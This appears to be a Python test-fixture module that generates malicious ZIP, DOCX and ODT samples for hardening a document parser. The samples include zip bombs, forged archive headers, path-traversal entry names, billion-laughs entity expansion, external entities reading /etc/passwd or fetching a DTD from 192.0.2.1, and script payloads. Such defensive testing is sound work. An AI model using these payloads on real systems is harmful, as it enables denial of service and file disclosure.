"""Zipped files made to break whoever reads them; each is built when it is asked for."""

import struct
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_LZMA, ZIP_STORED, ZipFile

from tests.articles.document_factories import ODF, build_docx, build_docx_from_xml, build_odt, build_zip

Build = Callable[[], bytes]
LAUGHS = (
    '<!DOCTYPE z [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE z [<!ENTITY a "{"x" * 50_000}">]>'
EXTERNAL = '<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FOREIGN = '<!DOCTYPE z SYSTEM "http://192.0.2.1/z.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'


def patch_zip_entry(body: bytes, offset: int, form: str, value: int) -> bytes:
    """A ZIP of one file with a number in its entry of the list of files changed."""
    at = body.index(b"PK\x01\x02") + offset
    size = struct.calcsize(form)
    return body[:at] + struct.pack(form, value) + body[at + size :]


def build_packed_zip(method: int) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", method) as archive:
        archive.writestr("word/document.xml", "x")
        archive.writestr("[Content_Types].xml", "x")
    return out.getvalue()


def store_uncompressed(body: bytes) -> bytes:
    """The same ZIP with nothing made smaller, so that no ratio gives it away."""
    out = BytesIO()
    with ZipFile(BytesIO(body)) as packed, ZipFile(out, "w", ZIP_STORED) as loose:
        for name in packed.namelist():
            loose.writestr(name, packed.read(name))
    return out.getvalue()


def build_zip_with_names(*names: str) -> bytes:
    return build_zip(dict.fromkeys(names, "x"))


def build_duplicate_zip() -> bytes:
    return build_zip({"word/document.xml": "x", "word/document.xmk": "y"}).replace(
        b"document.xmk", b"document.xml"
    )


def build_overlapping_zip() -> bytes:
    """Many entries of the list that point at one and the same file."""
    one = build_zip({"word/document.xml": bytes(900_000)})
    start, end = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entries = b"".join(
        one[start:end].replace(b"word/document.xml", b"word/documen%d.xml" % at) for at in range(10)
    )
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 10, 10, len(entries), start, 0)
    return one[:start] + entries + tail


def build_zip_quine() -> bytes:
    """A ZIP in a ZIP in a ZIP."""
    body = build_zip({"a.txt": "x"})
    for _ in range(10):
        body = build_zip({"a.zip": body})
    return body


def build_docx_document(xml: str) -> bytes:
    return build_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": xml})


def build_many_paragraphs(count: int) -> bytes:
    return build_docx_from_xml("<w:p><w:r><w:t>word</w:t></w:r></w:p>" * count)


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
MAIN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def build_zip_with_target(target: str, mode: str = "") -> bytes:
    return build_docx_from_xml(
        "<w:p><w:r><w:t>Bread</w:t></w:r></w:p>",
        **{"_rels/.rels": RELATIONS.format(f'<Relationship Id="a" Type="{MAIN}" Target="{target}" {mode}/>')},
    )


ZIPS: dict[str, Build] = {
    "declared too big": lambda: build_zip({f"word/{at}.xml": bytes(60_000_000) for at in range(2)}),
    "ratio": lambda: build_zip({"word/document.xml": bytes(50_000_000)}),
    "forged small": lambda: patch_zip_entry(
        build_zip({"word/document.xml": bytes(30_000_000)}), 24, "<I", 10
    ),
    "forged large": lambda: patch_zip_entry(build_zip_with_names("word/document.xml"), 24, "<I", 99_000_000),
    "forged packed size": lambda: patch_zip_entry(
        build_zip_with_names("word/document.xml"), 20, "<I", 99_000_000
    ),
    "forged zip64": lambda: patch_zip_entry(build_zip_with_names("word/document.xml"), 24, "<I", 0xFFFFFFFF),
    "forged offset": lambda: patch_zip_entry(build_zip_with_names("word/document.xml"), 42, "<I", 0x7FFFFFFF),
    "forged checksum": lambda: patch_zip_entry(build_docx("x"), 16, "<I", 1),
    "nested": build_zip_quine,
    "100,000 entries": lambda: build_zip({f"{at}": b"" for at in range(100_000)}),
    "2,001 entries": lambda: build_zip({f"word/{at}.xml": b"" for at in range(2_001)}),
    "overlapping": build_overlapping_zip,
    "twice the same name": build_duplicate_zip,
    "up the tree": lambda: build_zip_with_names("../../../tmp/evil", "/etc/passwd", "C:\\windows\\evil"),
    "locked": lambda: patch_zip_entry(build_zip_with_names("word/document.xml"), 8, "<H", 1),
    "lzma": lambda: build_packed_zip(ZIP_LZMA),
    "bzip2": lambda: build_packed_zip(ZIP_BZIP2),
    "truncated": lambda: build_docx("It is.", title="Bread")[:-400],
    "half": lambda: (body := build_docx("It is.", title="Bread"))[: len(body) // 2],
    "only a beginning": lambda: b"PK\x03\x04" + bytes(200),
    "only an end": lambda: b"PK\x05\x06" + bytes(18),
    "endless comment": lambda: build_zip_with_names("a")[:-2] + b"\xff\xff" + b"x" * 65_535,
    "name of nothing": lambda: build_zip_with_names(""),
    "name of NULs": lambda: build_zip_with_names("word/document.xml\0.txt"),
}
WORDS: dict[str, Build] = {
    "laughs": lambda: build_docx_document(f"{LAUGHS}<z>&j;</z>"),
    "quadratic": lambda: build_docx_document(f"{QUADRATIC}<z>{'&a;' * 5_000}</z>"),
    "external entity": lambda: build_docx_document(f"{EXTERNAL}<z>&a;</z>"),
    "external type": lambda: build_docx_document(f"{FOREIGN}<z/>"),
    "laughs in UTF-16": lambda: build_zip(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": f"{LAUGHS}<z>&j;</z>".encode("utf-16")}
    ),
    "laughs in its properties": lambda: build_docx_from_xml(
        "<w:p/>", **{"docProps/core.xml": f"{LAUGHS}<z>&j;</z>"}
    ),
    "laughs in its styles": lambda: build_docx_from_xml(
        "<w:p/>", **{"word/styles.xml": f"{LAUGHS}<z>&j;</z>"}
    ),
    "laughs in its relations": lambda: build_docx_from_xml(
        "<w:p/>", **{"_rels/.rels": f"{LAUGHS}<z>&j;</z>"}
    ),
    "nothing in it": lambda: build_docx_document(""),
    "no document": lambda: build_docx_document("<z/>"),
    "not XML": lambda: build_docx_document("Bread"),
    "an unknown charset": lambda: build_docx_document('<?xml version="1.0" encoding="zlib"?><z/>'),
    "50,000 deep": lambda: build_docx_from_xml("<w:sdt><w:sdtContent>" * 50_000),
    "tables 5,000 deep": lambda: build_docx_from_xml(
        "<w:tbl><w:tr><w:tc>" * 5_000 + "</w:tc></w:tr></w:tbl>" * 5_000
    ),
    "many attributes": lambda: build_docx_document(
        "<z " + " ".join(f'a{at}=""' for at in range(100_000)) + "/>"
    ),
    "a million elements": lambda: build_docx_document(f"<w:document {W}>{'<w:p/>' * 1_000_000}</w:document>"),
    "200,000 paragraphs": lambda: build_many_paragraphs(200_000),
    "60,000 paragraphs": lambda: build_many_paragraphs(60_000),
    "a word of 15 MB": lambda: build_docx_from_xml(f"<w:p><w:r><w:t>{'x' * 15_000_000}</w:t></w:r></w:p>"),
    "styles in a ring": lambda: build_docx_from_xml(
        '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Bread</w:t></w:r></w:p>',
        **{
            "word/styles.xml": f'<w:styles {W}><w:style w:type="paragraph" w:styleId="A">'
            '<w:basedOn w:val="A"/>'
            "</w:style></w:styles>"
        },
    ),
    "numbers in a ring": lambda: build_docx_from_xml(
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>',
        **{
            "word/numbering.xml": f'<w:numbering {W}><w:abstractNum w:abstractNumId="0">'
            '<w:numStyleLink w:val="L"/>'
            '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
        },
    ),
    "a footnote in itself": lambda: build_docx_from_xml(
        '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>',
        **{
            "word/footnotes.xml": f'<w:footnotes {W}><w:footnote w:id="2"><w:p><w:r>'
            '<w:footnoteReference w:id="2"/>'
            "</w:r></w:p></w:footnote></w:footnotes>"
        },
    ),
    "document elsewhere": lambda: build_zip_with_target("../../../../etc/passwd"),
    "document on the web": lambda: build_zip_with_target(
        "http://192.0.2.1/evil.xml", 'TargetMode="External"'
    ),
    "document in itself": lambda: build_zip_with_target("_rels/.rels"),
    "fields unended": lambda: build_docx_from_xml(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 3_000
    ),
    "ends of nothing": lambda: build_docx_from_xml(
        '<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' * 10
    ),
    "a chunk of HTML": lambda: build_docx_from_xml(
        '<w:altChunk xmlns:r="r" r:id="x"/><w:p/>', **{"word/x.html": "<script>"}
    ),
    "script in its words": lambda: build_docx_from_xml(
        "<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>"
    ),
}
OPEN_DOCUMENTS: dict[str, Build] = {
    "laughs": lambda: build_odt("", **{"content.xml": f"{LAUGHS}<z>&j;</z>"}),
    "quadratic": lambda: build_odt("", **{"content.xml": f"{QUADRATIC}<z>{'&a;' * 5_000}</z>"}),
    "external entity": lambda: build_odt("", **{"content.xml": f"{EXTERNAL}<z>&a;</z>"}),
    "laughs in its properties": lambda: build_odt(
        "<text:p>B</text:p>", **{"meta.xml": f"{LAUGHS}<z>&j;</z>"}
    ),
    "laughs in its styles": lambda: build_odt("<text:p>B</text:p>", **{"styles.xml": f"{LAUGHS}<z>&j;</z>"}),
    "50,000 deep": lambda: build_odt("<text:section>" * 50_000 + "</text:section>" * 50_000),
    "lists 150 deep": lambda: build_odt(
        "<text:list><text:list-item>" * 60 + "<text:p>Bread</text:p>" + "</text:list-item></text:list>" * 60
    ),
    "a thousand million spaces": lambda: build_odt('<text:p>A<text:s text:c="1000000000"/>b</text:p>'),
    "spaces 100,000 times": lambda: build_odt(f"<text:p>A{'<text:s text:c="9999"/>' * 100_000}b</text:p>"),
    "a cell a million times": lambda: build_odt(
        '<table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell '
        'table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
    ),
    "300,000 paragraphs": lambda: build_odt("<text:p>word</text:p>" * 300_000),
    "a million elements": lambda: build_odt("<text:p/>" * 1_000_000),
    "styles without end": lambda: build_odt(
        '<text:p text:style-name="S0">Bread</text:p>',
        styles="".join(
            f'<style:style style:name="S{at}" style:parent-style-name="S{at + 1}"/>' for at in range(40_000)
        ),
    ),
    "no body": lambda: build_odt("", **{"content.xml": f"<office:document-content {ODF}/>"}),
    "another's content": lambda: build_odt("", **{"content.xml": "<html><body>Bread</body></html>"}),
    "script in its words": lambda: build_odt("<text:p>&lt;script&gt;alert(1)&lt;/script&gt;</text:p>"),
}
for _samples in (WORDS, OPEN_DOCUMENTS):
    for _name in [
        name for name in _samples if name[0].isdigit() or name.startswith(("a ", "spaces", "quadratic"))
    ]:
        _samples[f"{_name}, not packed"] = lambda build=_samples[_name]: store_uncompressed(build())
